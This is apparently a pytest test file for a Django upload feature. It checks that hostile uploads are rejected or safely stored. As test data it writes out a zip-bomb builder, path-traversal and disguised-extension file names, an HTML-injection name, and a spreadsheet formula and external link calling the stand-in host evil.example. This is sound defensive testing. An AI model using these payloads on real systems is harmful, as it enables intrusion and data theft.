"""Hostile uploads end in a clear sentence, in the language of the page, and leave nothing behind."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils.translation import override
from tests.rooms import made_tables as made
from tests.rooms.made_tables import LEIPZIG_LYON

from tawam.intake import queries
from tawam.intake.actions.drafts import upload_folder
from tawam.intake.files import readers
from tawam.intake.files.tables import LARGEST_FILE

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("own_folder")]
NEW = "/en/workbench/tables/new/"


def sent(client: Client, content: bytes, name: str = "twins.csv", page: str = NEW, **more: str):
    """The answer to an upload."""
    return client.post(page, {"file": SimpleUploadedFile(name, content), **more})


def problem(answer) -> str:
    """What the page says is wrong; nothing may have been kept."""
    assert answer.status_code == 400
    assert queries.drafts() == []
    assert not upload_folder().exists() or not list(upload_folder().iterdir())
    return answer.content.decode()


def workbook(*rows: list[object], links: bool = False) -> bytes:
    """A workbook; with a part that points at another file, if wished."""
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    kept = io.BytesIO()
    book.save(kept)
    if links:
        with zipfile.ZipFile(kept, "a") as archive:
            archive.writestr(
                "xl/externalLinks/externalLink1.xml",
                '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                '<externalBook xmlns:r="r" r:id="rId1"/></externalLink>',
            )
            archive.writestr(
                "xl/externalLinks/_rels/externalLink1.xml.rels",
                '<Relationships><Relationship Id="rId1" Target="http://evil.example/x.xlsx" TargetMode="External"/>'
                "</Relationships>",
            )
    return kept.getvalue()


def bomb() -> bytes:
    """A small archive that unpacks to more than half a gigabyte."""
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            for _ in range(520):
                sheet.write(b" " * 1_000_000)
        archive.writestr("[Content_Types].xml", "<Types/>")
    return kept.getvalue()


class TestAHostileFile:
    @pytest.mark.parametrize(
        ("content", "told"),
        [
            (b"MZ\x90\x00\x03" + b"\x00" * 200, "a program and no table"),
            (b"\x7fELF\x02\x01" + b"\x00" * 200, "a program and no table"),
            (b"%PDF-1.7\n", "a PDF and no table"),
            (b"\x89PNG\r\n", "a picture and no table"),
            (b"\x1f\x8b\x08\x00", "a packed file and no table"),
            (b"<!DOCTYPE html><table>", "a web page and no table"),
            (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 99, "Excel file of the old kind"),
            (b"PK\x03\x04 and nothing more", "damaged archive"),
            (b"town,partner\n\x00\x00,b\n", "NUL character"),
            (b"a,b\n" + b'"x' * 50, "quotation mark"),
            (b" \n \n", "is empty"),
        ],
        ids=["exe", "elf", "pdf", "png", "gzip", "html", "xls", "zip", "nul", "quotes", "blank"],
    )
    def test_is_told_by_its_content_whatever_its_name(self, editor, content, told):
        for name in ("twins.csv", "twins.xlsx"):
            assert told in problem(sent(editor, content, name))

    def test_that_unpacks_to_gigabytes_is_not_unpacked(self, editor):
        content = bomb()
        assert len(content) < 10_000_000
        assert "unpacks to more than half a gigabyte" in problem(sent(editor, content, "bomb.xlsx"))

    def test_of_sixty_five_megabytes_is_stopped_on_the_way(self, editor):
        content = made.as_csv() + b"x" * (LARGEST_FILE + 1_000_000)
        assert "larger than can be read" in problem(sent(editor, content))

    def test_that_is_missing_is_asked_for(self, editor):
        assert "Choose a file." in problem(editor.post(NEW, {}))

    @pytest.mark.parametrize(
        ("more", "told"),
        [
            ({"encoding": "martian"}, "is no encoding"),
            ({"encoding": "rot13"}, "is no encoding"),
            ({"delimiter": ";;"}, "cannot be split at"),
        ],
        ids=["unknown", "no-text", "two-marks"],
    )
    def test_read_in_a_way_that_is_none_is_told_so(self, editor, more, told):
        assert told in problem(sent(editor, made.as_csv(LEIPZIG_LYON), **more))

    def test_is_told_in_arabic_on_an_arabic_page(self, editor):
        answer = sent(editor, b"%PDF-1.7\n", page="/ar/workbench/tables/new/")
        with override("ar"):
            assert "a PDF and no table" not in problem(answer)

    def test_with_links_to_other_files_is_read_and_follows_none(self, editor):
        content = workbook(["town", "partner town"], ["Leipzig", "Lyon"], links=True)
        assert sent(editor, content, "twins.xlsx").status_code == 302
        (draft,) = queries.drafts()
        assert draft.samples == {"town": ("Leipzig",), "partner town": ("Lyon",)}

    def test_with_formulas_shows_their_text_or_nothing_and_runs_none(self, editor):
        content = workbook(["town", "partner town"], ["Leipzig", '=WEBSERVICE("http://evil.example")'])
        assert sent(editor, content, "twins.xlsx").status_code == 302
        (draft,) = queries.drafts()
        made.mapped(draft)
        made.work()
        assert made.rows_of(draft)[0].outcome != "used"

    @pytest.mark.parametrize(
        ("name", "shown"),
        [
            ("../../../etc/passwd", "passwd"),
            ("..\\..\\windows\\twins.csv", "twins.csv"),
            ("a\u202ecsv.exe", "acsv.exe"),
            ("....", "...."),
            ("x" * 300 + ".csv", "x" * 116 + ".csv"),
            ("<img src=x>.csv", "<img src=x>.csv"),
        ],
        ids=["unix", "windows", "direction", "dots", "long", "markup"],
    )
    def test_whose_name_plays_tricks_is_kept_under_our_own(self, editor, name, shown):
        assert sent(editor, made.as_csv(LEIPZIG_LYON), name).status_code == 302
        (draft,) = queries.drafts()
        (kept,) = upload_folder().iterdir()
        assert (len(kept.name), kept.stat().st_mode & 0o077) == (32, 0)
        assert "/" not in draft.file
        assert draft.file in (shown, "table")
        assert "<img src=x>" not in editor.get("/en/workbench/tables/").content.decode()

    def test_sent_without_the_token_of_its_form_is_refused(self, editor):
        strict = Client(enforce_csrf_checks=True)
        strict.cookies = editor.cookies
        assert sent(strict, made.as_csv(LEIPZIG_LYON)).status_code == 403
        assert queries.drafts() == []


class TestAServerWithoutTheReadersOfTables:
    @pytest.fixture(autouse=True)
    def _without(self, monkeypatch):
        """No package of the extra is installed."""

        def missing(name: str):
            raise ImportError(name)

        monkeypatch.setattr(readers.importlib, "import_module", missing)

    def test_says_how_to_get_them(self, editor):
        page = problem(sent(editor, workbook(["town", "partner"], ["a", "b"]), "twins.xlsx"))
        assert "pip install tawam[tables]" in page
        assert "python-calamine" in page

    def test_needs_the_other_only_for_text_that_says_nothing_of_its_encoding(self, editor):
        arabic = "المدينة,الشريكة\nدمشق,بغداد\n".encode("cp1256")
        assert "charset-normalizer" in problem(sent(editor, arabic))

    def test_reads_plain_text_all_the_same(self, editor):
        assert sent(editor, made.as_csv(LEIPZIG_LYON)).status_code == 302


class TestAProfileOfAStrangeName:
    @pytest.mark.parametrize("name", ["%00", "a%00b", "nobody", "%E2%80%AE"])
    def test_is_not_there(self, editor, name):
        address = f"/en/workbench/tables/profiles/edit/?name={name}"
        assert [editor.get(address).status_code, editor.post(address, {"name": "x"}).status_code] == [404, 404]
